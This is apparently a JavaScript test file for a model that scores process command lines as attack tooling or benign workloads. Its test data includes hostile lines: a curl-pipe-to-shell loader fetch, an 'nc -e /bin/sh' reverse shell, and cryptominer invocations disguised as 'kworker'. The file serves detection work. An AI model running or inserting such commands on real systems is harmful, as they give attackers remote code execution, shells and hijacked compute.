import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { describe, it } from 'node:test';
import { CMDLINE_THRESHOLD, cmdlineFeatures, cmdlineScore, trainCmdlineModel } from './cmdline.js';
import { CMDLINE_WEIGHTS } from './cmdline-weights.js';

const SCRIPT = fileURLToPath(new URL('../../scripts/train-cmdline-model.ts', import.meta.url));

describe('command-line model', () => {
  it('turns a command line into tokens, shapes and pairs', () => {
    const f = cmdlineFeatures('sh -c "curl -fsSL http://203.0.113.66/ldr.sh | sh" /tmp/.X11-unix/.cache/kworker 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBL');
    for (const x of ['sh', '-c', 'curl', '<url>', 'http', '<dir:tmp>', 'kworker', '<hidden>', '<blob>', '-fssl <url>']) assert.ok(f.includes(x), x);
  });

  it('learns which words mark attack tooling, and leaves unseen words neutral', () => {
    const w = trainCmdlineModel([
      { cmdline: 'xmrig --donate-level 1 -o stratum+tcp://pool:3333', attack: true },
      { cmdline: 'nc -e /bin/sh 198.51.100.7 4444', attack: true },
      { cmdline: 'node /app/server.js', attack: false },
      { cmdline: 'curl -fsS http://127.0.0.1:3000/healthz', attack: false },
    ]);
    assert.ok(cmdlineScore(w, 'xmrig --donate-level 5') > 0.8);
    assert.ok(cmdlineScore(w, 'node /app/server.js') < 0.2);
    assert.equal(cmdlineScore(w, 'completely unknown words'), 0.5);
  });

  it('scores the shipped weights: a miner and a reverse shell high, the workloads\' programs low', () => {
    assert.ok(cmdlineScore(CMDLINE_WEIGHTS, 'kworker -o stratum+tcp://198.51.100.23:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3Xjrp --donate-level 1 -B') >= CMDLINE_THRESHOLD);
    assert.ok(cmdlineScore(CMDLINE_WEIGHTS, 'gunicorn -m gunicorn orders.wsgi:app --bind 0.0.0.0:8080 --workers 4') < CMDLINE_THRESHOLD);
    assert.ok(cmdlineScore(CMDLINE_WEIGHTS, 'pg_isready -U postgres') < CMDLINE_THRESHOLD);
  });

  it('ships exactly the weights the training script gives', () => {
    const r = spawnSync(process.execPath, ['--import', 'tsx', SCRIPT, '--check'], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /held out \d+ attack and \d+ benign distinct lines: precision [\d.]+, recall [\d.]+/);
  });
});
